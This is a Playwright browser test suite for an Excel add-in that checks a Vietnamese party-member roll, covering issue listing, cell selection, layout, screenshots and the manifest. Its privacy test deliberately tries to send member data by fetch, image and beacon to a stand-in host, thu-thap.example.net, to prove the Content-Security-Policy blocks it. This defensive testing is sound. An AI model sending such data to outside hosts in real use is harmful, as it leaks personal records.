/**
 * The built task pane in a real browser: Debian's Chromium driven by playwright-core, the pane served
 * from localhost, the fake Excel host standing in for Excel (office.js's hosted URL answers with the
 * fake). A clerk's path: open, "Kiểm tra", see the issues, click one, land on its cell.
 */
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { join, resolve } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { FakeExcelHost } from '../fake-excel';
import { at, build, example } from '../helpers/workbook';
import { browserBundles, CHROMIUM, CHROMIUM_ARGS, serve } from './support';

const OUTPUT = resolve(__dirname, '..', '..', 'test-output');
/** The screenshots kept for the clerks' guide (docs/HUONG-DAN.md). */
const IMAGES = resolve(__dirname, '..', '..', 'docs', 'images');
const HOSTED_OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';
const available = existsSync(CHROMIUM);
// In CI a missing browser is a failure, never a silent skip.
const describeInBrowser = available || process.env.CI ? describe : describe.skip;

describeInBrowser('the task pane in Chromium', () => {
  let server: Server;
  let url: string;
  let browser: Browser;
  let fakeBundle: string;
  let manifest: string;
  let deployUrl: string;
  let launching: Promise<Browser> | undefined;

  /** office.js from Microsoft's CDN, answered with the fake Excel host holding `snapshot`. */
  const answerOfficeJs = async (page: Page, snapshot: string): Promise<void> => {
    await page.route(HOSTED_OFFICE_JS, (route) => route.fulfill({ contentType: 'text/javascript; charset=utf-8', body: `${fakeBundle}\nwindow.__installFakeExcel(${snapshot});` }));
  };

  /** Clicks "Kiểm tra" once the pane enables it, and waits for the results. */
  const checkFromPane = async (page: Page): Promise<void> => {
    const check = page.getByRole('button', { name: 'Kiểm tra', exact: true });
    await check.waitFor();
    await page.waitForFunction(() => !(document.querySelector('button[title^="Kiểm tra"]') as HTMLButtonElement | null)?.disabled);
    await check.click();
    await page.getByText('Kết quả', { exact: true }).waitFor({ timeout: 120_000 });
  };

  beforeAll(async () => {
    // The production build of the pane (built as a ward office deploys it: every URL of the manifest
    // from one setting) and the fake host's bundle are built once before jest (test/browser/bundles.js).
    const bundles = browserBundles();
    deployUrl = bundles.deployUrl;
    manifest = readFileSync(join(bundles.pane, 'manifest.xml'), 'utf8');
    fakeBundle = readFileSync(bundles.fakeExcel, 'utf8');
    ({ server, url } = await serve(bundles.pane));
    launching = chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS, timeout: 0 });
    browser = await launching;
  }, 300_000);

  afterAll(async () => {
    // A browser still starting when the hook gave up is closed too: nothing is left open for jest.
    await launching?.then(
      (b) => b.close(),
      () => undefined,
    );
    if (server) {
      server.closeAllConnections();
      await new Promise<void>((done) => server.close(() => done()));
    }
  }, 300_000);

  it('"Kiểm tra" lists the issues; a click on one selects its cell; no request leaves localhost', async () => {
    const data = example();
    data.roll[4].birthDate = '31/02/1949';
    const wb = build(data).workbook;
    const host = await FakeExcelHost.fromXlsx(new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer));
    const snapshot = JSON.stringify(host.toSnapshot());

    const page = await browser.newPage({ viewport: { width: 380, height: 900 } });
    const requests: string[] = [];
    const pageErrors: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('pageerror', (e) => pageErrors.push(String(e)));
    await answerOfficeJs(page, snapshot);
    await page.goto(`${url}/taskpane.html`);

    await checkFromPane(page);

    const cell = at('roll', 4, 'birthDate');
    const issue = page.locator('div[role="button"]', { hasText: 'DATA-03' }).filter({ hasText: cell }).first();
    await issue.waitFor();
    await issue.click();
    await page.waitForFunction((expected) => (window as unknown as { __fakeExcelHost: { getSelection(): { address: string } } }).__fakeExcelHost.getSelection().address === expected, cell);
    const selection = await page.evaluate(() => (window as unknown as { __fakeExcelHost: { getSelection(): { sheet: string; address: string } } }).__fakeExcelHost.getSelection());
    expect(selection).toEqual({ sheet: 'Danh sách đảng viên', address: cell });

    // The check really wrote into the (fake) workbook: the flag and the result sheets.
    const fill = await page.evaluate((c) => (window as unknown as { __fakeExcelHost: { getFill(s: string, a: string): string | null } }).__fakeExcelHost.getFill('Danh sách đảng viên', c), cell);
    expect(fill).toBe('#FFC7CE');

    mkdirSync(OUTPUT, { recursive: true });
    await page.screenshot({ path: join(OUTPUT, 'taskpane.png'), fullPage: false });
    const outside = requests.filter((r) => !r.startsWith(url) && r !== HOSTED_OFFICE_JS && !r.startsWith('data:'));
    expect(outside).toEqual([]);
    expect(pageErrors).toEqual([]);
    await page.close();
  }, 300_000);

  it('privacy: a check and a clear request nothing beyond localhost; the Content-Security-Policy refuses other origins and leaves Fluent UI its styles', async () => {
    const host = await FakeExcelHost.fromXlsx(new Uint8Array((await build(example()).workbook.xlsx.writeBuffer()) as ArrayBuffer));
    const snapshot = JSON.stringify(host.toSnapshot());
    const flagged = 'L14';
    const fillBefore = host.getFill('Danh sách đảng viên', flagged);
    const page = await browser.newPage({ viewport: { width: 380, height: 900 } });
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    // Any other origin answers here, so a fetch that reaches the network layer would succeed: only the
    // page's policy can make it fail.
    const OUTSIDE = 'https://thu-thap.example.net';
    let reachedOutside = 0;
    await page.route(`${OUTSIDE}/**`, (route) => (reachedOutside++, route.fulfill({ status: 200, contentType: 'text/plain', headers: { 'access-control-allow-origin': '*' }, body: 'ok' })));
    await answerOfficeJs(page, snapshot);
    await page.addInitScript(() => {
      const seen: { directive: string; blocked: string }[] = [];
      (window as unknown as { __cspViolations: typeof seen }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
    });
    await page.goto(`${url}/taskpane.html`);

    await checkFromPane(page);
    // "Xoá đánh dấu" waits under "Việc khác", with the other secondary actions.
    await page.getByRole('button', { name: 'Việc khác', exact: true }).click();
    await page.getByRole('button', { name: 'Xoá đánh dấu', exact: true }).click();
    await page.waitForFunction(([cell, fill]) => (window as unknown as { __fakeExcelHost: { getFill(s: string, a: string): string | null } }).__fakeExcelHost.getFill('Danh sách đảng viên', cell as string) === fill, [flagged, fillBefore]);

    const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
    expect(policy).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com(;|$)/);
    // Fluent UI (Griffel) inserts its rules at run time; under the policy they must still apply.
    const styled = await page.evaluate(() => {
      const button = document.querySelector('button[title^="Kiểm tra"]') as HTMLElement;
      return { rules: [...document.styleSheets].reduce((n, s) => n + s.cssRules.length, 0), radius: getComputedStyle(button).borderTopLeftRadius };
    });
    expect(styled.rules).toBeGreaterThan(50);
    expect(styled.radius).not.toBe('0px');
    const during = await page.evaluate(() => (window as unknown as { __cspViolations: unknown[] }).__cspViolations.slice());
    expect(during).toEqual([]);
    expect(requests.filter((r) => !r.startsWith(url) && r !== HOSTED_OFFICE_JS && !r.startsWith('data:'))).toEqual([]);

    // The policy is enforced, not only written: member data sent elsewhere by fetch, an image or a
    // beacon is refused before it leaves the page.
    const attempt = await page.evaluate(async (outside) => {
      let fetched: string;
      try {
        fetched = await (await fetch(`${outside}/members?name=Nguy%E1%BB%85n`)).text();
      } catch (err) {
        fetched = `refused: ${(err as Error).name}`;
      }
      new Image().src = `${outside}/pixel.png?name=x`;
      const beacon = navigator.sendBeacon(`${outside}/beacon`, 'x');
      await new Promise((r) => setTimeout(r, 300));
      return { fetched, beacon, violations: (window as unknown as { __cspViolations: { directive: string; blocked: string }[] }).__cspViolations.slice() };
    }, OUTSIDE);
    expect(attempt.fetched).toBe('refused: TypeError');
    expect(attempt.violations.map((v) => v.directive).sort()).toEqual(['connect-src', 'connect-src', 'img-src']);
    expect(attempt.violations.every((v) => v.blocked.startsWith(OUTSIDE))).toBe(true);
    // (Chromium may still announce a refused image as a request; none was let through.)
    expect(reachedOutside).toBe(0);
    await page.close();
  }, 300_000);

  it('at 320 × 800 the problems lead: after a check the first issue card is in view, the count leads to the list; screenshots for docs/images', async () => {
    const data = example();
    data.roll[4].birthDate = '31/02/1949';
    // Two cells with one cause ("Y" is not a yes/no value): one card listing both.
    data.roll[2].present = 'Y';
    data.roll[3].present = 'Y';
    const host = await FakeExcelHost.fromXlsx(new Uint8Array((await build(data).workbook.xlsx.writeBuffer()) as ArrayBuffer));
    const snapshot = JSON.stringify(host.toSnapshot());
    const viewport = { width: 320, height: 800 };
    // Reduced motion: the chevrons are still, not caught half-turned in the screenshots.
    const page = await browser.newPage({ viewport, reducedMotion: 'reduce' });
    const pageErrors: string[] = [];
    page.on('pageerror', (e) => pageErrors.push(String(e)));
    await answerOfficeJs(page, snapshot);
    await page.goto(`${url}/taskpane.html`);
    await checkFromPane(page);

    const cards = page.locator('section[aria-label="Danh sách lỗi và cảnh báo, theo trang tính"] li > div');
    await cards.first().waitFor();
    const box = await cards.first().boundingBox();
    expect(box).not.toBeNull();
    const first = box as { x: number; y: number; width: number; height: number };
    expect(await page.evaluate(() => window.scrollY)).toBe(0);
    expect(first.y).toBeGreaterThanOrEqual(0);
    expect(first.y + first.height).toBeLessThanOrEqual(viewport.height);
    expect(first.x + first.width).toBeLessThanOrEqual(viewport.width);
    // Nothing wider than the pane: no sideways scrolling at 320 px.
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(viewport.width);
    // The first card says the problem in words; its rule ID is a small tag, not its first word.
    const firstText = (await cards.first().innerText()).trim();
    expect(firstText).not.toMatch(/^[A-Z]{2,5}-\d{2}/);
    expect(firstText).not.toContain('Sheet "');
    // One cause, one card: the two "Y" cells are one card with both cells.
    const presentCard = cards.filter({ hasText: 'Có mặt: "Y"' });
    expect(await presentCard.count()).toBe(1);
    await expect(presentCard.getByRole('button', { name: at('roll', 2, 'present'), exact: true }).count()).resolves.toBe(1);
    await expect(presentCard.getByRole('button', { name: at('roll', 3, 'present'), exact: true }).count()).resolves.toBe(1);
    mkdirSync(IMAGES, { recursive: true });
    await page.screenshot({ path: join(IMAGES, 'pane-sau-kiem-tra.png') });

    // The count is a link to the list: pressed, the first error card has the focus.
    await page.getByRole('button', { name: /^\d+ lỗi$/ }).click();
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-severity'))).toBe('error');
    await page.getByRole('button', { name: /^\d+ cảnh báo$/ }).click();
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-severity'))).toBe('warning');

    // The meeting day and the other secondary actions, grouped under "Việc khác".
    await page.evaluate(() => window.scrollTo(0, 0));
    await page.getByRole('button', { name: 'Việc khác', exact: true }).click();
    const meeting = page.getByRole('group', { name: 'Ngày họp: phiếu và biên bản' });
    await meeting.waitFor();
    expect(await meeting.getByRole('button').allInnerTexts()).toEqual(['In phiếu lần 1', 'In phiếu lần 2', 'Biên bản']);
    await page.screenshot({ path: join(IMAGES, 'pane-ngay-hop.png') });
    await page.getByRole('button', { name: 'Việc khác', exact: true }).click();

    // The settings, in words.
    await page.getByRole('button', { name: 'Thiết lập quy tắc', exact: true }).click();
    const settings = page.getByRole('radiogroup').first();
    await settings.waitFor();
    await page.getByRole('button', { name: 'Thiết lập quy tắc', exact: true }).scrollIntoViewIfNeeded();
    await page.evaluate(() => {
      const heading = [...document.querySelectorAll('h2 button')].find((b) => b.textContent?.includes('Thiết lập quy tắc'));
      heading?.scrollIntoView({ block: 'start' });
    });
    const settingsText = await page.locator('main').innerText();
    expect(settingsText).not.toMatch(/\[(present|roll|cumulative|strict|chi-bo|ward)\]/);
    expect(settingsText).not.toContain('hd27-2014');
    await page.screenshot({ path: join(IMAGES, 'pane-cai-dat.png') });
    expect(pageErrors).toEqual([]);
    await page.close();
  }, 300_000);

  it('dist/ is ready to upload: the manifest points at ADDIN_BASE_URL only and asks for no more than it needs', () => {
    expect(manifest).not.toMatch(/https?:\/\/localhost/);
    expect(manifest).toContain(`${deployUrl}/taskpane.html`);
    expect(manifest).toContain(`${deployUrl}/commands.html`);
    expect(manifest).toContain('<Permissions>ReadWriteDocument</Permissions>');
    expect(manifest).toMatch(/<Set Name="ExcelApi" MinVersion="1\.1"/);
    expect(manifest).toContain('<FunctionName>runCheck</FunctionName>');
  });

  it('outside Excel (the real office.js in a plain tab) the pane says so and keeps its buttons disabled', async () => {
    const page = await browser.newPage({ viewport: { width: 380, height: 600 } });
    // Microsoft's own office.js from the @microsoft/office-js package, as the hosted URL would serve it.
    const officeDist = resolve(__dirname, '..', '..', 'node_modules', '@microsoft', 'office-js', 'dist');
    await page.route('https://appsforoffice.microsoft.com/lib/1/hosted/**', (route) => {
      const file = join(officeDist, new URL(route.request().url()).pathname.replace('/lib/1/hosted/', ''));
      return existsSync(file) ? route.fulfill({ contentType: 'text/javascript', body: readFileSync(file) }) : route.fulfill({ status: 404, body: '' });
    });
    await page.goto(`${url}/taskpane.html`);
    await page.getByText('Chưa mở trong Excel').waitFor();
    expect(await page.getByRole('button', { name: 'Kiểm tra', exact: true }).isDisabled()).toBe(true);
    await page.close();
  }, 300_000);
});
